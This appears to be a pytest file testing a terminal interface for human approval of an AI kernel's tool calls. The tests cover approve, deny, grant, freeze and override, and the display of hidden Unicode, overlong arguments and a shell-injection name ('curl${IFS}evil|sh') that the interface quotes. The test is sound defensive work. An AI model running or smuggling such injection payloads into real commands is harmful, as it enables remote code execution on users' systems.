"""Approvals from a terminal: shown whole and harmless, said once, whoever has the store open."""

import pytest

from app.kernels import Place
from cli.terminal import Terminal
from helm_ai_kernel.app.kernel import Kernel

ASK = (
    b'@id("open") permit (principal, action, resource);\n@id("ask") @require("approval") forbid (principal, action, resource);\n'
)


def held(place: Place, **arguments: object) -> list[int]:
    """A call that waits; what was done for real."""
    done: list[int] = []

    def pay(amount: int, to: str = "shop") -> str:
        done.append(amount)
        return "paid"

    with place.program(pay) as program:
        place.sign(program.kernel, None, ASK)
        program.kernel.call("python/pay", {"amount": 5, **arguments})  # type: ignore[dict-item]
    return done


def again(place: Place, **arguments: object) -> tuple[str, list[int]]:
    """The same call, in another process of the kernel."""
    done: list[int] = []
    kernel = Kernel(config=place.config)

    @kernel.tool(effect="write")
    def pay(amount: int, to: str = "shop") -> str:
        done.append(amount)
        return "paid"

    with kernel:
        return kernel.call("python/pay", {"amount": 5, **arguments}).reason.value, done  # type: ignore[dict-item]


def test_a_call_is_listed_shown_approved_and_then_goes_on(place: Place, terminal: Terminal) -> None:
    held(place)
    listed = terminal.done("approvals", "list")
    assert "waiting" in listed.out and "local python/pay" in listed.out
    index = listed.out.split()[0].removeprefix("#")
    shown = terminal.done("approvals", "show", index)
    for said in ("local at library asks for python/pay", "held by ask", "waits for 1 approval", "amount = 5", "not by local"):
        assert said in shown.out
    assert "nothing was signed" in terminal("approvals", "approve", index).error
    said = terminal.sign("approvals", "approve", index)
    assert said.code == 0 and "approved by owner: it goes on when the same call is made again" in said.out
    assert again(place) == ("OK", [5])
    assert "held no more: ERR_APPROVAL_CONSUMED" in terminal("approvals", "show", index).error
    assert terminal.done("approvals", "list").out == "no call waits for a person\n"
    place.check()


def test_hidden_and_foreign_characters_are_shown_by_their_numbers_and_names(place: Place, terminal: Terminal) -> None:
    held(place, to="sh\u043ep\u200b\u202e\x1b[2J")
    shown = terminal.done("approvals", "show", "#".join(terminal.done("approvals", "list").out.split()[0].split("#")[1:]))
    assert 'to = "sh\\u043ep\\u200b\\u202e\\u001b[2J"' in shown.out
    for named in ("CYRILLIC SMALL LETTER O", "ZERO WIDTH SPACE", "RIGHT-TO-LEFT OVERRIDE", "\\u{1b} without a name"):
        assert "UNUSUAL: " in shown.out and named in shown.out


def test_what_is_too_long_to_look_at_says_so(place: Place, terminal: Terminal) -> None:
    held(place, to="x" * 9000)
    index = terminal.done("approvals", "list").out.split()[0].removeprefix("#")
    shown = terminal.done("approvals", "show", index)
    assert "CUT: 9002 characters in all" in shown.out and len(shown.out) < 6000
    assert terminal.done("approvals", "show", index, "--format", "json").json["arguments"].count("x") == 9000


def test_a_denied_call_is_denied_for_good(place: Place, terminal: Terminal) -> None:
    held(place)
    index = terminal.done("approvals", "list").out.split()[0].removeprefix("#")
    assert terminal.sign("approvals", "deny", index).code == 0
    no = terminal.sign("approvals", "approve", index)
    assert (no.code, "ERR_APPROVAL_DENIED" in no.error) == (1, True)
    assert again(place) == ("ERR_APPROVAL_DENIED", [])
    place.check()


def test_a_grant_is_shown_in_words_and_counts_until_it_is_revoked(place: Place, terminal: Terminal) -> None:
    held(place)
    index = terminal.done("approvals", "list").out.split()[0].removeprefix("#")
    asked = terminal("approvals", "grant", index, "--calls", "3", "--lasts", "90m", "--where", "amount<=10", "--where", "to~")
    assert "3 calls of `python/pay` by `local`, within 1 hour 30 minutes, without asking again" in asked.out
    assert "`amount` is at most 10" in asked.out and "`to` is anything" in asked.out and "no other argument" in asked.out
    terminal.sign("approvals", "grant", index, "--calls", "3", "--lasts", "90m", "--where", "amount<=10", "--where", "to~")
    assert again(place, to="bank")[0] == "OK"
    listed = terminal.done("approvals", "list").out
    assert "; 2 left" in listed
    grant = next(line for line in listed.splitlines() if line.startswith("grant")).split()[1].rstrip(":")
    assert terminal.sign("approvals", "revoke", grant).code == 0
    assert again(place, to="bank")[0] == "ERR_APPROVAL_REQUIRED"
    place.check()


@pytest.mark.parametrize("condition", ["amount", "amount<=x", "=5", "amount<", "to=shop"])
def test_a_condition_that_says_nothing_is_refused(terminal: Terminal, condition: str) -> None:
    said = terminal("approvals", "grant", "1", "--calls", "1", "--lasts", "1h", "--where", condition)
    assert said.code == 2


def test_everything_is_frozen_by_one_word_and_released_by_a_signature(place: Place, terminal: Terminal) -> None:
    held(place)
    assert "next: helm-ai-kernel release all" in terminal.done("freeze", "all").out
    assert again(place) == ("ERR_FROZEN", [])
    assert "is frozen already" in terminal("freeze", "all").error
    assert "FROZEN all" in terminal.done("approvals", "list").out
    assert "nothing was signed" in terminal("release", "all").error
    assert terminal.sign("release", "all").code == 0
    assert again(place)[0] == "ERR_APPROVAL_REQUIRED"
    assert "is nothing that can be frozen" in terminal("freeze", "everything").error
    place.check()


def test_an_override_needs_the_root_key_and_says_what_it_is(place: Place, terminal: Terminal) -> None:
    held(place)
    index = terminal.done("approvals", "list").out.split()[0].removeprefix("#")
    assert "EMERGENCY" in terminal("approvals", "override", index).out
    assert terminal.sign("approvals", "override", index).code == 0
    assert again(place) == ("OK", [5])
    place.check()


def test_what_is_signed_for_a_grant_is_shown_whole_or_said_to_be_cut(place: Place, terminal: Terminal) -> None:
    held(place, to="friend " * 60 + "AND ALSO \u202eevil")
    index = terminal.done("approvals", "list").out.split()[0].removeprefix("#")
    asked = terminal("approvals", "grant", index, "--calls", "9", "--lasts", "1h")
    shown = asked.out.split("beforehand")[1]
    assert "AND ALSO" in shown and "evil" in shown and "UNUSUAL: \\u{202e} RIGHT-TO-LEFT OVERRIDE" in shown
    terminal.sign("approvals", "deny", index)
    held(place, to="x" * 9000)
    index = terminal.done("approvals", "list").out.split("#")[2].split()[0]
    assert "CUT: " in terminal("approvals", "grant", index, "--calls", "9", "--lasts", "1h").out.split("beforehand")[1]


def test_what_was_refused_while_nobody_was_there_is_looked_at_later_and_granted(place: Place, terminal: Terminal) -> None:
    place.paths.config.write_text(place.paths.config.read_text().replace("[approval]", "[approval]\nunattended = true"))
    held(place)
    listed = terminal.done("approvals", "list").out
    (line,) = [line for line in listed.splitlines() if "unasked" in line]
    assert "local python/pay" in line and '{"amount": 5}' in line
    index = line.split()[0].removeprefix("#")
    assert terminal.sign("approvals", "grant", index, "--calls", "1", "--lasts", "1h").code == 0
    assert again(place) == ("OK", [5])
    assert again(place) == ("ERR_APPROVAL_REQUIRED", [])
    place.check()


def test_a_frozen_name_that_a_shell_would_obey_is_quoted(place: Place, terminal: Terminal) -> None:
    held(place)
    terminal.done("freeze", "agent:;curl${IFS}evil|sh;#")
    assert "release 'agent:;curl${IFS}evil|sh;#'" in terminal.done("approvals", "list").out
    assert "is not held" in terminal("tools", "release", "agent:;curl${IFS}evil|sh;#").error
